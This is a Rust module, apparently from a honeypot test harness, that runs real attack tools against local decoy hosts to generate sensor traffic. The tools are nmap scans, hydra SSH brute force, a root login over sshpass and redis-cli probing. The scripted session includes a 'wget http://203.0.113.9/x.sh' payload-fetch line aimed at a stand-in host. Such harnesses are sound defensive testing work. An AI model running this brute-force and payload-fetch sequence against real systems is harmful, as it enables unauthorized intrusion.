//! The attacker: real tools run from the attacker's namespace against the deckies.

use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use anyhow::Context as _;

use super::netns::Node;

/// Runs one tool to completion and returns its stdout (its exit status is the tool's business:
/// a failed login is still traffic).
pub fn tool(
    node: &Node,
    program: &str,
    args: &[&str],
    stdin: Option<&str>,
) -> anyhow::Result<String> {
    let mut cmd = node.command(program);
    cmd.args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .stdin(if stdin.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        });
    let mut child = cmd
        .spawn()
        .with_context(|| format!("cannot run {program}"))?;
    if let (Some(text), Some(mut input)) = (stdin, child.stdin.take()) {
        use std::io::Write as _;
        // Typed slowly enough for a pty session to see each line.
        for line in text.lines() {
            input.write_all(line.as_bytes())?;
            input.write_all(b"\n")?;
            std::thread::sleep(Duration::from_millis(200));
        }
    }
    let out = child.wait_with_output()?;
    Ok(String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr))
}

/// The recon and exploitation round against one sensor's deckies (`base` = .11 or .21).
pub fn round(attacker: &Node, base: u8, words: &Path) -> anyhow::Result<Vec<String>> {
    let ip = |k: u8| format!("10.232.0.{}", base + k);
    let (ssh, web, db) = (ip(0), ip(1), ip(2));
    let mut log = Vec::new();
    log.push(tool(
        attacker,
        "nmap",
        &[
            "-sV",
            "-Pn",
            "-T4",
            "--version-light",
            "-p",
            "22,80,6379",
            &ssh,
            &web,
            &db,
        ],
        None,
    )?);
    let words = words.to_string_lossy();
    log.push(tool(
        attacker,
        "hydra",
        &[
            "-l",
            "root",
            "-P",
            &words,
            "-t",
            "2",
            "-f",
            "-I",
            &format!("ssh://{ssh}"),
        ],
        None,
    )?);
    log.push(tool(
        attacker,
        "sshpass",
        &[
            "-p",
            "toor",
            "ssh",
            "-tt",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "ConnectTimeout=10",
            &format!("root@{ssh}"),
        ],
        Some("uname -a\nid\nls -la /\ncat /etc/os-release\nwget http://203.0.113.9/x.sh\nexit\n"),
    )?);
    log.push(tool(
        attacker,
        "curl",
        &["-s", "-m", "10", &format!("http://{web}/")],
        None,
    )?);
    log.push(tool(
        attacker,
        "curl",
        &[
            "-s",
            "-m",
            "10",
            "-d",
            "log=admin&pwd=hunter2",
            &format!("http://{web}/wp-login.php"),
        ],
        None,
    )?);
    for args in [
        vec!["SET", "loot", "1"],
        vec!["GET", "loot"],
        vec!["KEYS", "*"],
        vec!["CONFIG", "GET", "dir"],
    ] {
        let mut full = vec!["-h", db.as_str()];
        full.extend(args);
        log.push(tool(attacker, "redis-cli", &full, None)?);
    }
    Ok(log)
}

/// Background traffic (redis PING and an HTTP GET every 100 ms) against the given deckies
/// until stopped.
pub struct Traffic {
    stop: Arc<AtomicBool>,
    handle: Option<JoinHandle<u64>>,
}

impl Traffic {
    /// Starts hitting `targets` (`(redis_ip, web_ip)` pairs).
    pub fn start(attacker: &Node, targets: Vec<(String, String)>) -> Traffic {
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let node = attacker.clone();
        let handle = std::thread::spawn(move || {
            let mut rounds = 0;
            while !flag.load(Ordering::Relaxed) {
                for (redis, web) in &targets {
                    let _ = tool(&node, "redis-cli", &["-h", redis, "PING"], None);
                    let _ = tool(
                        &node,
                        "curl",
                        &["-s", "-m", "2", &format!("http://{web}/")],
                        None,
                    );
                }
                rounds += 1;
                std::thread::sleep(Duration::from_millis(100));
            }
            rounds
        });
        Traffic {
            stop,
            handle: Some(handle),
        }
    }

    /// Stops and returns how many rounds ran.
    pub fn stop(mut self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        self.handle.take().and_then(|h| h.join().ok()).unwrap_or(0)
    }
}

impl Drop for Traffic {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

/// Sanity check that a tool is installed.
pub fn require(program: &str) -> anyhow::Result<()> {
    Command::new("sh")
        .args(["-c", &format!("command -v {program}")])
        .output()
        .ok()
        .filter(|o| o.status.success())
        .map(drop)
        .with_context(|| format!("{program} is not installed (deploy/test.sh installs it)"))
}
